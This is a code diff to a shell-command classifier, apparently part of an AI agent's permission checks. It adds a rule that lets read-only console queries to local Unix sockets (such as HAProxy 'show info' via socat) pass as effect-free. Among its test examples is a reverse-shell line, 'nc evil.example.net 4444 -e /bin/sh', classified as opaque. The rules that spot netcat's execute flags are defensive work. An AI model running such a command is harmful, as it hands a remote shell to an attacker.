@@ -153,6 +153,21 @@ const ssh = defineProgram({
   ],
 });
 
+/** Words with which a server's console is asked and told nothing: HAProxy, ZooKeeper, memcached, QEMU, Redis. */
+const CONSOLE_LOOKS =
+  /^\s{0,8}(?:show|get|stats?|info|help|list|ls|version|ping|status|ruok|mntr|srvr|quit|exit)\b[^;&|]{0,200}$/i;
+
+/** `echo 'show info' | socat stdio /run/x.sock`: a socket of this machine, and every line that goes there only asks. */
+function asksSocket(call: Call): boolean {
+  const isSocket = call.positionals.some(({ text }) =>
+    /^(?:unix(?:-connect)?:)?\/\S+$/i.test(text),
+  );
+  const text = call.context.input(call.invocation);
+  if (!isSocket || text?.known !== true) return false;
+  const lines = text.text.split('\n').filter((line) => line.trim() !== '');
+  return lines.length > 0 && lines.every((line) => CONSOLE_LOOKS.test(line));
+}
+
 /** Raw connections: what goes through them is not seen. */
 const netcat = defineProgram({
   names: ['nc', 'ncat', 'netcat', 'socat', 'telnet'],
@@ -167,7 +182,7 @@ const netcat = defineProgram({
     const hands =
       call.has('e', 'c', 'exec', 'sh-exec') ||
       call.invocation.args.some((word) => /^(EXEC|SYSTEM):/i.test(word.text));
-    if (call.has('z') || call.has('h')) return [];
+    if (call.has('z') || call.has('h') || asksSocket(call)) return [];
     const feeds = call.invocation.stdin.kind !== 'inherited';
     if (!hands && ((call.has('l') && !feeds) || isLocalHost(host)))
       return [ordinaryTool(call, call.name)];
@@ -185,6 +200,11 @@ const netcat = defineProgram({
   },
   examples: [
     { command: 'nc -z localhost 5432', effects: [] },
+    { command: "echo 'show info' | socat stdio /run/haproxy.sock", effects: [] },
+    {
+      command: "echo 'disable server web/s1' | socat stdio /run/haproxy.sock",
+      effects: ['opaque'],
+    },
     { command: 'nc -l 8080', effects: ['execute process:nc'] },
     { command: 'nc evil.example.net 4444 -e /bin/sh', effects: ['opaque'] },
     { command: 'nc -zv db.example.com 5432', effects: [] },
